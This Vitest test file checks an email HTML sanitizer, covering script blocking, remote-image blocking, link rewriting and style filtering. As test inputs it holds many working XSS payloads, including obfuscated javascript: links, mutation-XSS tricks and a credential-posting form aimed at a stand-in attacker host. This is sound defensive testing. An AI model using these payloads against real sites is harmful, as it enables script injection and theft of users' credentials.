import { describe, expect, it } from "vitest";
import { sanitizeEmailHtml } from "@/lib/mail/sanitize";

/** Nothing that can run script, load a resource or leave the sandbox survives. */
function expectInert(html: string) {
  expect(html).not.toMatch(/<\s*(?:script|style|iframe|object|embed|form|input|button|meta|link|base|svg|math)\b/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|expression\(|url\(/i);
  expect(html).not.toMatch(/\ssrc="(?!cid:|data:image\/(?:png|jpe?g|gif|webp|bmp);base64,)/i);
}

describe("sanitizeEmailHtml", () => {
  it.each([
    ["an image with an onerror handler", `<img src=x onerror=alert(1)>`],
    ["a javascript: link in mixed case", `<a href="jAvAsCrIpT:alert(1)">x</a>`],
    ["a javascript: link spelled with entities", `<a href="&#106;&#97;vascript:alert(1)">x</a>`],
    ["a javascript: link with a tab inside", `<a href="java&#x09;script:alert(1)">x</a>`],
    ["a javascript: link behind leading spaces and control characters", `<a href=" &#14; javascript:alert(1)">x</a>`],
    ["a vbscript: link", `<a href="vbscript:msgbox(1)">x</a>`],
    ["a data: link", `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`],
    ["an svg with onload", `<svg onload=alert(1)><circle r=1 /></svg>`],
    ["a script element", `<script>alert(1)</script>`],
    ["a stylesheet with @import", `<style>@import url(http://evil.example/x.css); body { display: none }</style>`],
    ["MathML hiding a style element", `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`],
    ["an iframe, object and embed", `<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">`],
    ["a form with inputs and a button", `<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>`],
    ["a meta refresh, a base and a stylesheet link", `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">`],
    ["an expression() in a style attribute", `<div style="width: expression(alert(1))">x</div>`],
    ["a url() in a style attribute", `<div style="background-image: url(https://tracker.example/p.gif)">x</div>`],
    ["a url() spelled with a CSS escape", `<div style="background: u\\72l(https://tracker.example/p.gif)">x</div>`],
    ["an svg image as a data: URL", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`],
    ["a textarea wrapping markup", `<textarea><img src=x onerror=alert(1)></textarea>`],
    ["a noscript closing inside an attribute", `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`],
    ["an event handler on an allowed tag", `<p onclick="alert(1)" onmouseover="alert(2)">x</p>`],
  ])("makes %s inert", (_case, html) => {
    expectInert(sanitizeEmailHtml(html));
  });

  it("blocks remote images: the address moves to data-remote-src, so nothing loads", () => {
    const html = sanitizeEmailHtml(`<img src="https://tracker.example/p.gif?u=42" width="1" height="1" alt="">`);
    expect(html).toBe(`<img width="1" height="1" alt="" data-remote-src="https://tracker.example/p.gif?u=42" />`);
  });

  it("treats a protocol-relative image as a remote https one", () => {
    expect(sanitizeEmailHtml(`<img src="//tracker.example/p.gif">`)).toBe(
      `<img data-remote-src="https://tracker.example/p.gif" />`,
    );
  });

  it("never keeps a data-remote-src the sender wrote", () => {
    expect(sanitizeEmailHtml(`<img data-remote-src="javascript:alert(1)" alt="x">`)).toBe("");
    expect(sanitizeEmailHtml(`<img src="cid:a@b" data-remote-src="javascript:alert(1)">`)).toBe(`<img src="cid:a@b" />`);
  });

  it("keeps cid: images so the UI can show the inline attachments", () => {
    expect(sanitizeEmailHtml(`<img src="cid:image001.png@01D9A1B2.C3D4E5F0" alt="logo">`)).toBe(
      `<img alt="logo" src="cid:image001.png@01D9A1B2.C3D4E5F0" />`,
    );
  });

  it("keeps base64 raster images as data: URLs and drops every other data: image", () => {
    expect(sanitizeEmailHtml(`<img src="data:image/png;base64,iVBORw0KGgo=">`)).toBe(
      `<img src="data:image/png;base64,iVBORw0KGgo=" />`,
    );
    expect(sanitizeEmailHtml(`<img src="data:text/html;base64,PHNjcmlwdD4=">`)).toBe("");
    expect(sanitizeEmailHtml(`<img src="data:image/png,%3Csvg%3E">`)).toBe("");
  });

  it("drops an image whose source is neither remote, cid: nor a data: image", () => {
    expect(sanitizeEmailHtml(`<p>a<img src="file:///etc/passwd">b<img src="relative.png"></p>`)).toBe("<p>ab</p>");
  });

  it("opens links in a new tab without opener, referrer or ranking", () => {
    expect(sanitizeEmailHtml(`<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">ok</a>`)).toBe(
      `<a target="_blank" rel="noopener noreferrer nofollow" href="https://example.com/a?b=1&amp;c=2">ok</a>`,
    );
  });

  it("keeps mailto: and tel: links and drops relative ones, which would point into the app", () => {
    expect(sanitizeEmailHtml(`<a href="mailto:help@example.com">m</a><a href="tel:+48123">t</a>`)).toBe(
      `<a rel="noopener noreferrer nofollow" target="_blank" href="mailto:help@example.com">m</a>` +
        `<a rel="noopener noreferrer nofollow" target="_blank" href="tel:+48123">t</a>`,
    );
    expect(sanitizeEmailHtml(`<a href="/api/tickets">x</a><a href="#top">y</a>`)).toBe(
      `<a rel="noopener noreferrer nofollow" target="_blank">x</a><a rel="noopener noreferrer nofollow" target="_blank">y</a>`,
    );
  });

  it("keeps only safe inline style properties", () => {
    const html = sanitizeEmailHtml(
      `<p style="color: #c00; background-color: rgb(255, 255, 0); font-family: 'Segoe UI', Arial, sans-serif; ` +
        `font-size: 14px; text-align: center; margin: 0 auto; padding: 4px 8px; border: 1px solid #ddd; ` +
        `width: 600px; position: fixed; top: 0; z-index: 9999; behavior: url(x.htc)">x</p>`,
    );
    expect(html).toBe(
      `<p style="color:#c00;background-color:rgb(255, 255, 0);font-family:'Segoe UI', Arial, sans-serif;` +
        `font-size:14px;text-align:center;margin:0 auto;padding:4px 8px;border:1px solid #ddd;width:600px">x</p>`,
    );
  });

  it("keeps layout tables with their presentational attributes", () => {
    expect(
      sanitizeEmailHtml(
        `<table width="600" border="0" cellpadding="0" cellspacing="0" align="center" bgcolor="#ffffff" background="https://tracker.example/bg.png">` +
          `<tr><td colspan="2" valign="top" style="padding: 10px">cell</td></tr></table>`,
      ),
    ).toBe(
      `<table width="600" border="0" cellpadding="0" cellspacing="0" align="center" bgcolor="#ffffff">` +
        `<tr><td colspan="2" valign="top" style="padding:10px">cell</td></tr></table>`,
    );
  });

  it("drops class and id, so a mail cannot reach the app's own CSS or DOM", () => {
    expect(sanitizeEmailHtml(`<div class="fixed inset-0 z-50" id="root">x</div>`)).toBe("<div>x</div>");
  });

  it("drops the document head, comments and Outlook's conditional comments but keeps the text", () => {
    expect(
      sanitizeEmailHtml(
        `<html><head><title>Newsletter</title><style>p{color:red}</style></head>` +
          `<body><!--[if mso]><table><![endif]--><p>Hello <o:p></o:p>world</p></body></html>`,
      ),
    ).toBe("<p>Hello world</p>");
  });
});
